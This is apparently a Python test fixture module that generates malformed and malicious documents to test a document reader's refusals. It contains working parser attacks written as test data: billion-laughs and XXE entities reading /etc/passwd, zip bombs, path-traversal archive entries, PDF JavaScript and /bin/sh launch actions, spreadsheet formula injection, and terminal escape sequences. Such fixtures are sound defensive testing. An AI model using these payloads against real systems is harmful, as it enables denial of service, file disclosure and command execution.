"""Broken and malicious documents, each made by a function of the path that is then read.

`REFUSED` holds them with the words of the one line that refuses them, `HARMLESS` with what a reader may find in them.
"""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas
from tests.localfin.documents.made import hwpx_paragraph, hwpx_parts, pdf_bytes, pdf_file, write_zip

Make = Callable[[Path], object]
REFUSED: dict[str, tuple[Make, str]] = {}
HARMLESS: dict[str, tuple[Make, str]] = {}
SECRET = "root:"
"""Stands in /etc/passwd, where nobody may read it."""
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def refused(words: str) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        REFUSED[make.__name__] = make, words
        return make

    return add


def harmless(words: str) -> Callable[[Make], Make]:
    """`words` is a regular expression for the texts of all blocks, a line each."""

    def add(make: Make) -> Make:
        HARMLESS[make.__name__] = make, words
        return make

    return add


# --- PDF

PAGE = [(50.0, 700.0, 10.0, "words")]


def _pdf(contents: bytes, page: bytes = b"", catalogue: bytes = b"", others: tuple[bytes, ...] = ()) -> bytes:
    """One page in Helvetica, as object 3."""
    stream = b"<</Length %d>>stream\n%s\nendstream" % (len(contents), contents)
    return pdf_file(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
            b"/Contents 4 0 R%s>>" % page,
            stream,
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            *others,
        ]
    )


WORDS = b"BT /F 12 Tf 50 700 Td (words) Tj ET"


@refused("cut short")
def pdf_cut(path: Path) -> None:
    whole = pdf_bytes([PAGE] * 5)
    path.write_bytes(whole[: len(whole) // 2])


@refused("damaged")
def pdf_of_noise(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF")


@refused("encrypted")
def pdf_with_a_password(path: Path) -> None:
    canvas = Canvas(str(path), encrypt=StandardEncryption("secret", "owner", strength=128))
    canvas.drawString(50, 700, "words")
    canvas.save()


@harmless("^words$")
def pdf_that_only_forbids_printing(path: Path) -> None:
    canvas = Canvas(str(path), encrypt=StandardEncryption("", "owner", canPrint=0, strength=128))
    canvas.drawString(50, 700, "words")
    canvas.save()


@refused("damaged|no words|pages")
def pdf_of_a_million_pages_that_are_not_there(path: Path) -> None:
    path.write_bytes(pdf_bytes([PAGE]).replace(b"/Count 1/", b"/Count 1000000/"))


@refused("20001 pages")
def pdf_of_twenty_thousand_and_one_pages(path: Path) -> None:
    kids = b" ".join([b"3 0 R"] * 20_001)
    whole = _pdf(WORDS, others=(b"<<>>",))
    path.write_bytes(whole.replace(b"/Count 1/Kids[3 0 R]", b"/Count 20001/Kids[%s]" % kids))


@harmless("^(words\n?){10000}$")
def pdf_of_ten_thousand_pages(path: Path) -> None:
    kids = b" ".join([b"3 0 R"] * 10_000)
    whole = _pdf(WORDS, others=(b"<<>>",))
    path.write_bytes(whole.replace(b"/Count 1/Kids[3 0 R]", b"/Count 10000/Kids[%s]" % kids))


@harmless("^words$")
def pdf_whose_page_tree_is_a_circle(path: Path) -> None:
    path.write_bytes(pdf_bytes([PAGE]).replace(b"/Kids[", b"/Kids[2 0 R 2 0 R "))


@refused("time|longer|memory|no words|ended its reader")
def pdf_that_unpacks_to_a_quarter_of_a_gigabyte(path: Path) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _each in range(256)) + packer.flush()
    content = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    path.write_bytes(pdf_file([b"<</Type/Catalog/Pages 2 0 R>>", pages, page, content]))


@harmless("^words$")
def pdf_with_scripts_and_programs(path: Path) -> None:
    action = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1/'\\))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>"
    )
    path.write_bytes(
        _pdf(WORDS, catalogue=action, page=b"/AA<</O<</S/URI/URI(http://127.0.0.1/)>>>>", others=(b"<<>>",))
    )


@refused("damaged|no words|ended its reader")
def pdf_of_arrays_in_arrays(path: Path) -> None:
    path.write_bytes(
        _pdf(WORDS, others=(b"<<>>",)).replace(b"/Kids[3 0 R]", b"/Kids" + b"[" * 100_000 + b"]" * 100_000)
    )


@refused("ended its reader|longer|memory")
def pdf_with_a_form_that_draws_itself(path: Path) -> None:
    itself = b"/BBox[0 0 99 99]/Resources<</XObject<</X 6 0 R>>>>"
    form = b"<</Type/XObject/Subtype/Form%s/Length 11>>stream\n/X Do /X Do\nendstream" % itself
    path.write_bytes(_pdf(WORDS + b" /X Do", others=(form,)))


@harmless("^words$")
def pdf_whose_bookmarks_are_a_circle(path: Path) -> None:
    mark = b"<</Title(words)/Dest[3 0 R/Fit]/Next 6 0 R/First 6 0 R>>"
    path.write_bytes(_pdf(WORDS, catalogue=b"/Outlines<</First 6 0 R/Last 6 0 R>>", others=(mark,)))


@refused("OCR")
def pdf_of_pictures(path: Path) -> None:
    path.write_bytes(pdf_bytes([[]] * 3, extra=b"q BI /W 1 /H 1 /CS /G /BPC 8 ID \x00 EI Q"))


@refused("no words")
def pdf_of_nothing(path: Path) -> None:
    path.write_bytes(pdf_bytes([[]]))


@harmless("^before after$")
def pdf_that_drives_the_terminal(path: Path) -> None:
    text = "before \x1b]52;c;ZXZpbA==\x07\u202eafter"
    path.write_bytes(pdf_bytes([[(50.0, 700.0, 10.0, text)]], title="\x1b[2Jtitle"))


@harmless("x{1000}")
def pdf_with_a_word_of_a_million_letters(path: Path) -> None:
    path.write_bytes(pdf_bytes([[(50.0, 700.0, 1.0, "x" * 1_000_000)]]))


# --- DOCX


def _docx(path: Path, document: str | bytes, **parts: str) -> None:
    write_zip(path, {"[Content_Types].xml": "<Types/>", "word/document.xml": document, **parts})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _document(body: str, before: str = "") -> str:
    return f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"


@refused("document type")
def docx_that_laughs_a_billion_times(path: Path) -> None:
    _docx(path, _document(_paragraph("&e;"), LAUGHS))


@refused("document type")
def docx_that_names_a_file_of_ours(path: Path) -> None:
    _docx(path, _document(_paragraph("&f;"), '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'))


@refused("document type")
def docx_that_laughs_in_utf_16(path: Path) -> None:
    _docx(path, ('<?xml version="1.0" encoding="utf-16"?>' + _document(_paragraph("&e;"), LAUGHS)).encode("utf-16"))


@refused("zip bomb|MB")
def docx_that_unpacks_to_a_hundred_megabytes(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("word/document.xml", "w") as part:
        part.write(f"<w:document {W}><w:body>".encode())
        for _each in range(100):
            part.write(b" " * (1 << 20))


@refused("nested too deeply")
def docx_nested_deeply(path: Path) -> None:
    _docx(path, _document("<w:tbl><w:tr><w:tc>" * 100_000))


@refused("damaged or cut")
def docx_cut(path: Path) -> None:
    _docx(path, _document(_paragraph("words") * 1000))
    path.write_bytes(path.read_bytes()[:-200])


@refused("damaged or cut")
def docx_with_another_checksum(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", _document(_paragraph("words")))
    path.write_bytes(path.read_bytes().replace(b"words", b"w0rds", 1))


@refused("XML is damaged")
def docx_that_ends_early(path: Path) -> None:
    _docx(path, _document(_paragraph("words"))[:-20])


@refused("encrypted")
def docx_with_a_password_on_its_parts(path: Path) -> None:
    _docx(path, _document(_paragraph("words")))
    raw = bytearray(path.read_bytes())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = raw.find(mark)
        while start >= 0:
            raw[start + at] |= 1
            start = raw.find(mark, start + 1)
    path.write_bytes(raw)


@refused("encrypted")
def docx_in_an_encrypted_envelope(path: Path) -> None:
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)
    )


@refused("old Office")
def doc_of_old(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000))


@refused("twice under one name")
def docx_with_a_part_twice(path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", _document(_paragraph("first")))
        archive.writestr("word/documenu.xml", _document(_paragraph("second")))
    path.write_bytes(buffer.getvalue().replace(b"word/documenu.xml", b"word/document.xml"))


@refused("30003 parts")
def docx_of_thirty_thousand_parts(path: Path) -> None:
    _docx(path, _document(_paragraph("words")), **{f"p{number}": "" for number in range(30_001)})


@harmless("^words$")
def docx_with_parts_that_climb_out(path: Path) -> None:
    _docx(
        path,
        _document(_paragraph("words")),
        **{"../../../../tmp/climbed": "x", "/etc/passwd": "x", "word/vbaProject.bin": "x"},
    )


@refused("no document|damaged")
def docx_of_an_unknown_packing(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", _document(_paragraph("words")))


@refused("neither DOCX")
def archive_of_something_else(path: Path) -> None:
    write_zip(path, {"a.txt": "words"})


# --- XLSX

_BOOK = (
    '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
)
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"


def _xlsx(path: Path, rows: str, target: str = 'Target="worksheets/sheet1.xml"', **parts: str) -> None:
    links = f'<Relationships><Relationship Id="r1" Type="{_KIND}" {target}/></Relationships>'
    sheet = f"<worksheet><sheetData>{rows}</sheetData></worksheet>"
    book = {"xl/workbook.xml": _BOOK, "xl/_rels/workbook.xml.rels": links, "xl/worksheets/sheet1.xml": sheet}
    write_zip(path, {**book, **parts})


@harmless("^stored\t7$")
def xlsx_with_formulas_that_reach_out(path: Path) -> None:
    formula = 'WEBSERVICE("http://127.0.0.1/"&amp;A1)+cmd|" /C calc"!A0'
    _xlsx(
        path,
        f'<row r="1"><c r="A1" t="str"><f>{formula}</f><v>stored</v></c><c r="B1"><f>{formula}</f><v>7</v></c></row>',
    )


@harmless("^7$")
def xlsx_with_macros(path: Path) -> None:
    _xlsx(
        path,
        '<row r="1"><c r="A1"><v>7</v></c></row>',
        **{"xl/vbaProject.bin": "\xd0\xcf", "xl/externalLinks/1.xml": "x"},
    )


@refused("no words")
def xlsx_whose_sheet_is_elsewhere(path: Path) -> None:
    _xlsx(path, "", 'Target="file:///etc/passwd" TargetMode="External"')


@refused("lacks its part")
def xlsx_whose_sheet_climbs_out(path: Path) -> None:
    _xlsx(path, "", 'Target="../../../../../../etc/passwd"')


@refused("not there")
def xlsx_with_a_text_beyond_the_table(path: Path) -> None:
    _xlsx(path, '<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')


@refused("no place")
def xlsx_with_a_cell_beyond_the_sheet(path: Path) -> None:
    _xlsx(path, '<row r="1"><c r="ZZZ1"><v>1</v></c></row>')


@refused("out of order")
def xlsx_with_rows_backwards(path: Path) -> None:
    _xlsx(path, '<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>')


@harmless("^1\n2$")
def xlsx_from_corner_to_corner(path: Path) -> None:
    _xlsx(path, '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')


@refused("million characters|longer|zip bomb")
def xlsx_of_wide_rows(path: Path) -> None:
    rows = (f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="XFD{n}"><v>{n}</v></c></row>' for n in range(1, 20_000))
    _xlsx(path, "".join(rows))


@refused("document type")
def xlsx_that_laughs_in_its_texts(path: Path) -> None:
    shared = LAUGHS + "<sst><si><t>&e;</t></si></sst>"
    _xlsx(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', **{"xl/sharedStrings.xml": shared})


@refused("longer|million|memory|bomb")
def xlsx_that_repeats_a_long_text(path: Path) -> None:
    shared = f"<sst><si><t>{'x y' * 3_000_000}</t></si></sst>"
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_000))
    _xlsx(path, cells, **{"xl/sharedStrings.xml": shared})


@harmless("^1e999999999\tnan\t99999999999999999999$")
def xlsx_with_numbers_that_are_none(path: Path) -> None:
    values = ("1e999999999", "nan", "99999999999999999999")
    cells = "".join(
        f'<c r="{column}1" t="{kind}"><v>{value}</v></c>'
        for column, kind, value in zip("ABC", ("str",) * 3, values, strict=True)
    )
    _xlsx(path, f'<row r="1">{cells}</row><row r="3"><c r="A3"><f>1/0</f></c></row>')


# --- HWPX


@refused("document type")
def hwpx_that_laughs(path: Path) -> None:
    parts = hwpx_parts(hwpx_paragraph("<hp:t>words</hp:t>"))
    write_zip(path, parts | {"Contents/section0.xml": LAUGHS + parts["Contents/section0.xml"]})


@refused("encrypted")
def hwpx_with_a_password(path: Path) -> None:
    seal = '<odf:manifest xmlns:odf="m"><odf:file-entry><odf:encryption-data/></odf:file-entry></odf:manifest>'
    write_zip(path, hwpx_parts(hwpx_paragraph("<hp:t>words</hp:t>")) | {"META-INF/manifest.xml": seal})


@harmless("^words$")
def hwpx_with_scripts(path: Path) -> None:
    write_zip(path, hwpx_parts(hwpx_paragraph("<hp:t>words</hp:t>")) | {"Scripts/headerScripts.js": "while(true);"})


@refused("lacks its part")
def hwpx_without_sections(path: Path) -> None:
    parts = hwpx_parts("")
    write_zip(path, {name: part for name, part in parts.items() if "section" not in name})


@refused("old HWP")
def hwp_of_old(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + b"HWP Document File" + bytes(1000))


# --- HTML and text


@harmless("^deep$")
def html_nested_deeply(path: Path) -> None:
    path.write_text("<html>" + "<div><b>" * 300_000 + "deep")


@harmless("^before$")
def html_of_tables_in_tables(path: Path) -> None:
    path.write_text("<html>before" + "<table><tr><td>" * 3_000)


@harmless("^before$")
def html_with_a_script_that_never_ends(path: Path) -> None:
    path.write_text("<html>before<script>" + "alert(1)" * 300_000)


@harmless("^words$")
def html_that_reaches_out(path: Path) -> None:
    path.write_text(
        '<html><meta http-equiv="refresh" content="0;url=http://127.0.0.1/">'
        '<link rel="stylesheet" href="file:///etc/passwd">'
        '<iframe src="file:///etc/passwd"></iframe><img src="http://127.0.0.1/x">'
        '<object data="/etc/passwd"></object>words'
    )


@refused("longer")
def html_of_comments_that_never_end(path: Path) -> None:
    path.write_text("<html>" + "x" * 100 + "<!-- " * 200_000)


@harmless("words")
def html_with_a_cell_as_wide_as_the_world(path: Path) -> None:
    path.write_text("<html><table><tr><td colspan=999999999>words<td colspan=9999>more</table>")


@harmless("^=cmd\\|' /C calc'!A0\t@SUM\\(1\\+1\\)$")
def csv_of_formulas(path: Path) -> None:
    path.with_suffix(".csv").write_text("=cmd|' /C calc'!A0,@SUM(1+1)\n")


@refused("quotes do not match")
def csv_whose_quote_never_ends(path: Path) -> None:
    path.with_suffix(".csv").write_text('a,"' + "x,y\n" * 1_000_000)


@refused("fields")
def csv_of_a_million_columns(path: Path) -> None:
    path.with_suffix(".csv").write_text("," * 1_000_000 + "x\n")


@refused("no document that can be read")
def program(path: Path) -> None:
    path.write_bytes(b"\x7fELF" + struct.pack("<200Q", *range(200)) + bytes(range(256)) * 20)


@refused("no document that can be read")
def noise(path: Path) -> None:
    path.write_bytes(bytes((number * 7919 >> 3) & 255 for number in range(100_000)))


@harmless("^safe$")
def text_that_drives_the_terminal(path: Path) -> None:
    path.write_text("\x1b]0;owned\x07\x1b[2J\u202esafe\u200b\n")


@harmless("^x{1000}")
def text_of_one_line(path: Path) -> None:
    path.write_text("x" * 10_000_000)


# --- what is no file


@refused("not a regular file")
def pipe(path: Path) -> None:
    os.mkfifo(path)


@refused("cannot be read")
def link_to_itself(path: Path) -> None:
    path.symlink_to(path)


@refused("not a regular file")
def link_to_an_endless_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


@refused("empty|cannot be read")
def link_to_our_memory(path: Path) -> None:
    path.symlink_to("/proc/self/mem")


@refused("is a folder")
def folder(path: Path) -> None:
    path.mkdir()


@refused("is empty")
def nothing(path: Path) -> None:
    path.touch()


@refused("MB are read")
def a_terabyte_of_nothing(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)
